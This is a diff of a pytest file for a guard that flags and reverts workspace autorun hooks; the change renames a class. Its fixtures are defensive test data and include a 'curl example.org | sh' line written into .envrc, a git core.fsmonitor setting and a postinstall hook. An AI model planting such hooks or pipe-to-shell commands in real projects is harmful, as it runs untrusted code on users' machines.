@@ -7,7 +7,7 @@ import subprocess
 
 import pytest
 
-from interpreter.policies.autorun import AutorunGuard, Flag
+from interpreter.policies.autorun import AutorunGuard, FlaggedFile
 
 
 @pytest.fixture
@@ -50,7 +50,7 @@ def test_a_new_place_is_flagged_and_removed(guard, workspace, path):
     (workspace / path).parent.mkdir(parents=True, exist_ok=True)
     (workspace / path).write_text("x")
     flags = guard.end()
-    assert flags == (Flag(path, "added"),)
+    assert flags == (FlaggedFile(path, "added"),)
     assert guard.revert(flags) == ()
     assert not (workspace / path).exists()
 
@@ -64,7 +64,7 @@ def test_a_changed_file_gets_its_content_and_mode_back(workspace):
     file.write_text("curl example.org | sh\n")
     file.chmod(0o777)
     flags = guard.end()
-    assert flags == (Flag(".envrc", "changed"),)
+    assert flags == (FlaggedFile(".envrc", "changed"),)
     guard.revert(flags)
     assert file.read_text() == "export A=1\n"
     assert file.stat().st_mode & 0o777 == 0o640
@@ -76,7 +76,7 @@ def test_git_is_not_made_to_run_things(guard, workspace):
     command = ["git", "-C", str(workspace), "config", "core.fsmonitor", "/tmp/x"]
     subprocess.run(command, check=True)
     flags = guard.end()
-    assert flags == (Flag(".git/config", "changed"),)
+    assert flags == (FlaggedFile(".git/config", "changed"),)
     digest = hashlib.sha256(config.read_bytes()).hexdigest()
     assert guard.end({".git/config": digest}) == ()  # the user has seen it
     guard.revert(flags)
@@ -88,7 +88,7 @@ def test_only_the_scripts_of_a_package_that_run_by_themselves_matter(guard, work
     manifest.write_text(json.dumps({"name": "a", "scripts": {"test": "true"}}))
     assert guard.end() == ()
     manifest.write_text(json.dumps({"name": "a", "scripts": {"postinstall": "sh x"}}))
-    assert guard.end() == (Flag("package.json", "added"),)
+    assert guard.end() == (FlaggedFile("package.json", "added"),)
 
 
 def test_a_new_repository_and_a_new_environment_are_ordinary(guard, workspace):
@@ -108,7 +108,7 @@ def test_what_only_looks_like_a_new_environment_hides_nothing(workspace):
     guard.begin()
     for name in ("pyvenv.cfg", ".envrc"):
         (workspace / "src" / name).write_text("x")
-    assert guard.end() == (Flag("src/.envrc", "added"),)
+    assert guard.end() == (FlaggedFile("src/.envrc", "added"),)
     guard.close()
 
 
@@ -126,7 +126,7 @@ def test_a_link_does_not_lead_the_guard_out_of_the_workspace(tmp_path):
     (workspace / ".vscode").rmdir()
     (workspace / ".vscode").symlink_to(outside)
     assert guard.revert(flags) == (".vscode/tasks.json",)
-    assert guard.end() == (Flag(".vscode", "added"),)
+    assert guard.end() == (FlaggedFile(".vscode", "added"),)
     assert (outside / "tasks.json").read_text() == "precious"
     guard.close()
 
@@ -153,7 +153,7 @@ def test_a_bare_repository_is_noticed(guard, workspace):
     (bare / "HEAD").write_text("ref: refs/heads/main\n")
     assert guard.end() == ()
     (bare / "config").write_text("[core]\n\tfsmonitor = x\n")
-    assert guard.end() == (Flag("bare/config", "added"),)
+    assert guard.end() == (FlaggedFile("bare/config", "added"),)
 
 
 def test_a_large_file_is_flagged_though_only_a_new_one_can_go(workspace):
@@ -165,7 +165,10 @@ def test_a_large_file_is_flagged_though_only_a_new_one_can_go(workspace):
     (workspace / ".npmrc").write_text(large.replace("x", "y"))
     (workspace / ".envrc").write_text(large)
     flags = guard.end()
-    assert flags == (Flag(".envrc", "added"), Flag(".npmrc", "changed", can_revert=False))
+    assert flags == (
+        FlaggedFile(".envrc", "added"),
+        FlaggedFile(".npmrc", "changed", can_revert=False),
+    )
     assert guard.revert(flags) == (".npmrc",)
     assert not (workspace / ".envrc").exists()
     guard.close()
@@ -179,5 +182,5 @@ def test_a_file_that_only_looks_unchanged_is_flagged(workspace):
     times = file.stat()
     file.write_text("two")
     os.utime(file, ns=(times.st_atime_ns, times.st_mtime_ns))
-    assert guard.end() == (Flag(".envrc", "changed"),)
+    assert guard.end() == (FlaggedFile(".envrc", "changed"),)
     guard.close()
